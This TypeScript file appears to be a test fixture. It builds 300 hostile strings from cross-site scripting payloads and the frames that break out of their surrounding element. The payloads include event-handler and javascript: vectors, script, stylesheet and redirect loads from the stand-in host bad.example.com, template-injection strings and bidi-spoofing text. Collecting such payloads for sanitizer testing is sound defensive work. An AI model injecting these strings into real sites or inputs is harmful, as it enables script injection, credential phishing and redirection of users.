/** Payloads that would call `hit()`, load something or break out of their element if they were not treated as text. */
const payloads = [
  "<script>hit()</script>",
  "<ScRiPt src=//bad.example.com/x.js></ScRiPt>",
  "<img src=x onerror=hit()>",
  "<svg/onload=hit()>",
  "<svg><animate onbegin=hit() attributeName=x>",
  "<math><mtext><style><img src onerror=hit()>",
  "<iframe srcdoc='<script>parent.hit()</script>'>",
  "<iframe src=javascript:parent.hit()>",
  "<object data=javascript:hit()>",
  "<embed src=javascript:hit()>",
  "<details open ontoggle=hit()>x</details>",
  "<input autofocus onfocus=hit()>",
  "<body onload=hit()>",
  "<link rel=stylesheet href=//bad.example.com/x.css>",
  "<style>*{display:none}</style>",
  "<meta http-equiv=refresh content=0;url=//bad.example.com>",
  "<base href=//bad.example.com/>",
  "<form action=//bad.example.com><button>Save</button></form>",
  "[a link](javascript:hit())",
  "[a link](data:text/html,<script>hit()</script>)",
  "![](x onerror=hit())",
  "javascript:hit()",
  "data:text/html,<script>hit()</script>",
  "{{constructor.constructor('hit()')()}}",
  "${hit()}",
  "#{hit()}",
  "<%= hit() %>",
  "__proto__",
  "\u202Egnp.exe\u202C \u2066\u2067\u200F",
  "a\uFFFF\uD83D\uDE00\u0301\u0301\u0301",
];

/** Strings that close the element or attribute around a payload. */
const frames: readonly ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => `"> ${payload}`,
  (payload) => `'> ${payload}`,
  (payload) => `</textarea></title>${payload}`,
  (payload) => `</script>${payload}`,
  (payload) => `--> ${payload}`,
  (payload) => `]]> ${payload}`,
  (payload) => `" onmouseover="hit()" x="${payload}`,
  (payload) => `\`;${payload};//`,
  (payload) => `\\u003cimg src=x onerror=hit()> ${payload}`,
];

/** 300 hostile strings. */
export const hostileTexts: readonly string[] = frames.flatMap((frame) => payloads.map(frame));
